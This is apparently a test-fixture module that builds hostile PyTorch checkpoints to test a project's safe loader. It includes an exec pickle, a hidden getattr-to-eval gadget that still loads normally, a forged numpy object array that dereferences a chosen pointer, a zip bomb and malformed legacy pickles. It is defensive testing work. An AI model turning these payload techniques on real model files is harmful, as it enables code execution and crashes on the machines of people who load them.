"""Hostile checkpoints for the loading tests, and quick --cfg-options for tiny demo runs.

Two payloads, each of which creates a marker file when unpickled without protection:

- :func:`plain_payload`: a ``__reduce__`` to ``builtins.exec`` (refused by any safe loader);
- :func:`hide_gadget`: a real checkpoint with one tensor replaced by the
  ``getattr(getattr, '__self__')`` -> ``builtins`` -> ``eval`` gadget, called through the
  default-allowed ``torch._tensor._rebuild_from_type_v2``. It returns a tensor of the
  replaced one's shape, so a loader that lets ``builtins.getattr`` through loads the file
  normally after running the code.
"""
from __future__ import annotations

import json
import struct
import uuid
import zlib
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import torch



class _Exec:
    """Pickles as ``exec(code)``: a plain code-running ``__reduce__``."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        return (exec, (self.code,))


class _GetAttr:
    """Pickles as ``getattr(obj, name)``."""

    def __init__(self, obj: Any, name: str) -> None:
        self.obj, self.name = obj, name

    def __reduce__(self):
        return (getattr, (self.obj, self.name))


class _Gadget:
    """Pickles as ``_rebuild_from_type_v2(eval, Tensor, (code,), None)`` with ``eval`` reached
    as ``getattr(getattr(getattr, '__self__'), 'eval')`` (no GLOBAL other than getattr)."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self):
        evaluate = _GetAttr(_GetAttr(getattr, '__self__'), 'eval')
        return (torch._tensor._rebuild_from_type_v2, (evaluate, torch.Tensor, (self.code,), None))


def _touch(marker: Path) -> str:
    return f"__import__('pathlib').Path({str(marker)!r}).touch()"


def plain_payload(path: Path, marker: Path) -> Path:
    """A torch zip checkpoint whose state dict holds an ``exec`` ``__reduce__``."""
    torch.save({'meta': {}, 'state_dict': {'backbone.x': _Exec(_touch(marker))}}, path)
    return path


def hide_gadget(real: Path, path: Path, marker: Path) -> Path:
    """``real`` (a checkpoint written by the tools) re-saved with its first backbone tensor
    replaced by the gadget (which rebuilds a zero tensor of the same shape)."""
    from pvt_mm.loading.checkpoint import read_checkpoint
    checkpoint = read_checkpoint(real)
    sd = checkpoint['state_dict'] if 'state_dict' in checkpoint else checkpoint
    key = next(k for k in sd if k.startswith('backbone.'))
    shape = tuple(sd[key].shape)
    sd[key] = _Gadget(f"{_touch(marker)} or __import__('torch').zeros({shape})")
    torch.save(checkpoint, path)
    return path


def OLD_ALLOW_LIST() -> list:  # noqa: N802  (a constant, built lazily)
    """The allow-list pvt_mm used before the stand-ins (sessions 4-5), i.e. the protection
    removed: the real ``HistoryBuffer``, numpy's reconstruct / scalar / ndarray / dtype and
    dtype classes, and the real ``getattr``."""
    import numpy as np
    from mmengine.logging.history_buffer import HistoryBuffer
    multiarray = (getattr(np, '_core', None) or np.core).multiarray
    dtype_classes = [type(np.dtype(t)) for t in ('f8', 'f4', 'i8', 'i4', 'b1')]
    return [HistoryBuffer, getattr, multiarray._reconstruct, multiarray.scalar, np.ndarray,
            np.dtype, *dtype_classes]


def run_options(**extra: Any) -> list[str]:
    """--cfg-options for 1-iteration demo runs: batch 4 on 4 images, no validation, loaders
    in this process, a unique experiment name (a logger per runner)."""
    opts: dict[str, Any] = {
        'experiment_name': f'sec_{uuid.uuid4().hex[:8]}', 'train_dataloader.batch_size': 4,
        'default_hooks.logger.interval': 1, 'train_cfg.max_epochs': 1,
        'val_cfg': None, 'val_dataloader': None, 'val_evaluator': None}
    for loader in ('train_dataloader', 'test_dataloader'):
        opts.update({f'{loader}.num_workers': 0, f'{loader}.persistent_workers': False})
    opts.update(extra)
    return ['--cfg-options'] + [f'{k}={v}' for k, v in opts.items()]


def state_dict_of(checkpoint: Mapping[str, Any]) -> Mapping[str, Any]:
    return checkpoint['state_dict'] if 'state_dict' in checkpoint else checkpoint


# ---- round 2 (issue 17): files made only of allow-listed names -------------------------------
class _Reduce:
    """Pickles as ``fn(*args)`` (then a BUILD with ``state`` when given)."""

    def __init__(self, fn: Any, args: tuple, state: Any = None) -> None:
        self.fn, self.args, self.state = fn, args, state

    def __reduce__(self):
        return (self.fn, self.args) if self.state is None else (self.fn, self.args, self.state)


def forged_object_array(pointer: int, wrap_in_set: bool = True) -> _Reduce:
    """numpy's dtype / ndarray and ``set`` only: an object dtype made without a BUILD, a
    float64 dtype copy BUILT with a state that gives it that object dtype as a sub-array
    while it claims to hold no objects, and an array of it over 8 file bytes, which numpy
    then reads as a ``PyObject*`` (``pointer``); ``set()`` of it dereferences it."""
    import numpy as np
    objects = _Reduce(np.dtype, ('O8', False, True))
    forged = _Reduce(np.dtype, ('f8', False, True),
                     (3, '|', (objects, (1,)), None, None, 8, 1, 0))
    array = _Reduce(np.ndarray, ((), forged, pointer.to_bytes(8, 'little')))
    return _Reduce(set, (array,)) if wrap_in_set else array


class _HistoryBufferRecord(_Reduce):
    """Pickled as a ``HistoryBuffer`` (pickle checks ``__newobj__``'s class)."""

    @property
    def __class__(self):  # noqa: D105
        from mmengine.logging.history_buffer import HistoryBuffer
        return HistoryBuffer


def history_buffer(state: Any) -> _Reduce:
    """A ``HistoryBuffer`` record (NEWOBJ + BUILD) with the given state."""
    import copyreg

    from mmengine.logging.history_buffer import HistoryBuffer
    return _HistoryBufferRecord(copyreg.__newobj__, (HistoryBuffer,), state)


def history_buffer_method(*args: Any) -> _Reduce:
    """``getattr(*args)``, e.g. ``(HistoryBuffer, 'max')`` or a three-argument call."""
    return _Reduce(getattr, args)


def plant(real: Path, path: Path, **meta: Any) -> Path:
    """``real`` (a checkpoint written by the tools) re-saved with ``meta`` entries added."""
    from pvt_mm.loading.checkpoint import read_checkpoint
    checkpoint = read_checkpoint(real)
    checkpoint['meta'].update(meta)
    torch.save(checkpoint, path)
    return path


def flip_inside_a_tensor_record(src: Path, dst: Path) -> str:
    """``src`` copied to ``dst`` with one bit flipped in the middle of its largest tensor
    record (the zip's CRC-32 for that record no longer matches); returns the record."""
    import shutil
    import zipfile
    shutil.copy(src, dst)
    with zipfile.ZipFile(dst) as archive:
        info = max((i for i in archive.infolist() if '/data/' in i.filename),
                   key=lambda i: i.file_size)
    with open(dst, 'r+b') as f:
        f.seek(info.header_offset + 26)
        name_len, extra_len = (int.from_bytes(f.read(2), 'little') for _ in range(2))
        where = info.header_offset + 30 + name_len + extra_len + info.file_size // 2
        f.seek(where)
        byte = f.read(1)[0]
        f.seek(where)
        f.write(bytes([byte ^ 0x10]))
    return info.filename


# ---- round 3 (issue 30): bombs, declared sizes, legacy pickles -------------------------------
def capped(args: list, timeout: float = 300, memory: int = 4 << 30) -> Any:
    """``python *args`` in the repository root (``tests/`` importable) with a time cap and an
    address-space cap (``RLIMIT_AS``); the ``subprocess.CompletedProcess``."""
    import os
    import resource
    import subprocess
    import sys
    root = Path(__file__).resolve().parents[1]

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))
    env = dict(os.environ, PYTHONPATH=os.pathsep.join([str(root), str(root / 'tests')]))
    return subprocess.run([sys.executable, *map(str, args)], capture_output=True, text=True,
                          cwd=root, timeout=timeout, preexec_fn=limit, env=env)


def zip_bomb(src: Path, dst: Path, copies: int, record_mib: int = 64) -> Path:
    """``src`` (a torch zip checkpoint) plus one deflated record of ``record_mib`` MiB of zeros
    whose central-directory entry is listed ``copies`` times (the overlapped-entries bomb:
    each listing decompresses the whole record again)."""
    import struct
    import zipfile
    zeros = bytes(1 << 20)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, 'w') as out:
        prefix = zin.namelist()[0].split('/')[0]
        for info in zin.infolist():
            out.writestr(info, zin.read(info.filename))
        bomb = zipfile.ZipInfo(f'{prefix}/bomb')
        bomb.compress_type = zipfile.ZIP_DEFLATED
        with out.open(bomb, 'w') as w:
            for _ in range(record_mib):
                w.write(zeros)
    data = dst.read_bytes()
    end = data.rindex(b'PK\x05\x06')
    count, cd_size, cd_offset = struct.unpack('<10xHII2x', data[end:end + 22])
    directory = data[cd_offset:cd_offset + cd_size]
    last = directory.rindex(b'PK\x01\x02')
    entries = directory + directory[last:] * (copies - 1)
    eocd = struct.pack('<4sHHHHIIH', b'PK\x05\x06', 0, 0, count + copies - 1,
                       count + copies - 1, len(entries), cd_offset, 0)
    dst.write_bytes(data[:cd_offset] + entries + eocd)
    return dst


class _Storage:
    """Stands for a storage in :func:`legacy_pickle` (its persistent id)."""

    def __init__(self, numel: int) -> None:
        self.numel = numel


def legacy_pickle(path: Path, numel: int = 4, declared: int | None = None,
                  keys: list[str] | None = None) -> Path:
    """A legacy (non-zip) torch pickle of one float tensor of ``numel`` values, whose storage
    is declared with ``declared`` elements (default ``numel``) and whose storage-key list is
    ``keys`` (default ``['0']``, the storage's key; ``[]``: its bytes are missing)."""
    import io
    import pickle
    import sys
    from collections import OrderedDict

    from torch.serialization import MAGIC_NUMBER, PROTOCOL_VERSION

    class Pickler(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, _Storage):
                return ('storage', torch.FloatStorage, '0', 'cpu', obj.numel, None)
            return None

    storage = _Storage(numel if declared is None else declared)
    tensor = _Reduce(torch._utils._rebuild_tensor_v2,
                     (storage, 0, (numel,), (1,), False, OrderedDict()))
    out = io.BytesIO()
    for header in (MAGIC_NUMBER, PROTOCOL_VERSION,
                   dict(protocol_version=PROTOCOL_VERSION, little_endian=sys.byteorder ==
                        'little', type_sizes=dict(short=2, int=4, long=4))):
        pickle.dump(header, out, protocol=2)
    Pickler(out, protocol=2).dump({'w': tensor})
    keys = ['0'] if keys is None else keys
    pickle.dump(keys, out, protocol=2)
    for _ in keys:
        out.write(numel.to_bytes(8, 'little') + torch.arange(float(numel)).numpy().tobytes())
    path.write_bytes(out.getvalue())
    return path


def numpy_dtype(name: str, align: Any = False, copy: Any = True, order: str = '<') -> _Reduce:
    """A numpy dtype record with explicit constructor arguments (numpy <= 1.18 wrote 0 / 1)."""
    import numpy as np
    return _Reduce(np.dtype, (name, align, copy), (3, order, None, None, None, -1, -1, 0))


def numpy_array(dtype: _Reduce, shape: tuple, data: bytes) -> _Reduce:
    """An ndarray record (``_reconstruct`` + BUILD) with the given dtype record and bytes."""
    import numpy as np
    multiarray = (getattr(np, '_core', None) or np.core).multiarray
    return _Reduce(multiarray._reconstruct, (np.ndarray, (0,), b'b'),
                   (1, shape, dtype, False, data))


# ---- deployed models and images (issue 30) ---------------------------------------------------
DEPLOY_META = {'task': 'det', 'classes': ['a', 'b'], 'palette': [[1, 2, 3], [4, 5, 6]],
               'test_resize': {'scale': [64, 64], 'keep_ratio': True}}


def onnx_model(path: Path, meta: object = DEPLOY_META, domain: str = '',
               external: str | None = None) -> Path:
    """A one-node graph (Identity, or a ``domain`` custom op) with ``meta`` as its
    ``pvt_mm.deploy`` metadata (a str is stored as it is) and, with ``external``, one
    initializer whose data is said to live in that file."""
    from onnx import TensorProto, helper
    x = helper.make_tensor_value_info('input', TensorProto.FLOAT, [1, 3, 'h', 'w'])
    y = helper.make_tensor_value_info('out', TensorProto.FLOAT, [1, 3, 'h', 'w'])
    node = helper.make_node('Custom' if domain else 'Identity', ['input'], ['out'],
                            domain=domain)
    inits = []
    if external:
        w = helper.make_tensor('w', TensorProto.FLOAT, [1], [0.0])
        w.ClearField('float_data')
        w.data_location = TensorProto.EXTERNAL
        entry = w.external_data.add()
        entry.key, entry.value = 'location', external
        inits.append(w)
    opsets = [helper.make_opsetid('', 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    model = helper.make_model(helper.make_graph([node], 'g', [x], [y], inits),
                              opset_imports=opsets)
    entry = model.metadata_props.add()
    entry.key, entry.value = 'pvt_mm.deploy', meta if isinstance(meta, str) else json.dumps(meta)
    path.write_bytes(model.SerializeToString())
    return path


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))


def png(path: Path, width: int, height: int, pixels: bool = True) -> Path:
    """An RGB PNG of zeros (streamed: a 16000 x 16000 image is ~750 KB); ``pixels=False``
    writes the header only."""
    out = [b'\x89PNG\r\n\x1a\n', _chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, 8, 2,
                                                             0, 0, 0))]
    if pixels:
        packer, row = zlib.compressobj(6), bytes(1 + 3 * width)
        out.append(_chunk(b'IDAT', b''.join(packer.compress(row) for _ in range(height))
                          + packer.flush()))
    out.append(_chunk(b'IEND', b''))
    path.write_bytes(b''.join(out))
    return path


